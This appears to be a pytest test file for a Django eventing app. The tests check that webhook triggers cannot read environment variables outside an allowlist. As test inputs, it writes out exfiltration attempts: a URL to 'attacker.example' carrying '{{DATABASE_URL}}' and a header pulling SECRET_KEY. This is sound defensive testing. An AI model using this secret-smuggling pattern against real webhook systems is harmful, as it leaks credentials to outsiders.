"""Triggers read only the environment variables EVENTING["TRIGGER_ENV"] names.

Attack: a user with only `add_trigger` points a trigger at their own receiver with
`?x={{DATABASE_URL}}` in the URL, or a header `value_from_env: SECRET_KEY`; the worker resolved
the variable and sent the project's own secrets to them.
"""

from __future__ import annotations

import pytest
from django.core.checks import run_checks
from django.core.exceptions import ValidationError

from eventing import emit
from eventing.delivery.deliver import deliver_event
from eventing.models import EventLog, EventStatus
from tests.factories import TriggerFactory
from triggers.models import Trigger

pytestmark = pytest.mark.django_db

SECRET = "postgres://app:hunter2-not-for-receivers@db.internal/app"


def new_trigger(**fields) -> Trigger:
    """An unsaved custom trigger with `fields`."""
    return Trigger(
        **{"name": "env_probe", "type": "env_probe", "url": "https://h.example/", **fields}
    )


def test_a_url_reading_a_variable_outside_trigger_env_is_refused_on_save():
    with pytest.raises(ValidationError) as refused:
        new_trigger(url="https://attacker.example/?x={{DATABASE_URL}}").full_clean()
    assert "DATABASE_URL" in str(refused.value.message_dict["url"])
    assert "TRIGGER_ENV" in str(refused.value.message_dict["url"])


def test_a_header_reading_a_variable_outside_trigger_env_is_refused_on_save():
    headers = [{"name": "X-Key", "value_from_env": "SECRET_KEY"}]
    with pytest.raises(ValidationError) as refused:
        new_trigger(headers=headers).full_clean()
    assert "SECRET_KEY" in str(refused.value.message_dict["headers"])


def test_variables_matching_trigger_env_are_accepted(settings):
    new_trigger(
        url="https://{{HOOK_HOST}}/in?k={{WEBHOOK_KEY}}",
        headers=[{"name": "X-Key", "value_from_env": "HOOK_TOKEN"}],
    ).full_clean()
    settings.EVENTING = {**settings.EVENTING, "TRIGGER_ENV": ["CRM_*"]}
    new_trigger(url="https://{{CRM_HOST}}/in").full_clean()
    with pytest.raises(ValidationError):
        new_trigger(url="https://{{HOOK_HOST}}/in").full_clean()


def test_a_stored_trigger_never_sends_a_variable_outside_trigger_env(receiver, monkeypatch):
    """A trigger stored before the bound (or written past validation) fails its attempt
    instead of sending the value, and `check --database` names it."""
    monkeypatch.setenv("DATABASE_URL", SECRET)
    TriggerFactory(type="env_probe", url=receiver.url("/ok?x={{DATABASE_URL}}"))
    Trigger.objects.filter(type="env_probe").update(
        headers=[{"name": "X-Key", "value_from_env": "DATABASE_URL"}]
    )
    event = emit("env_probe", {"n": 1})[0]

    deliver_event(event.id)

    assert receiver.requests == []
    row = EventLog.objects.get(pk=event.pk)
    assert row.status in (EventStatus.STAGED, EventStatus.FAILED)
    assert "TRIGGER_ENV" in row.remark
    warnings = [p for p in run_checks(databases=["default"]) if p.id == "eventing.W009"]
    assert len(warnings) == 1
    assert "DATABASE_URL" in warnings[0].msg
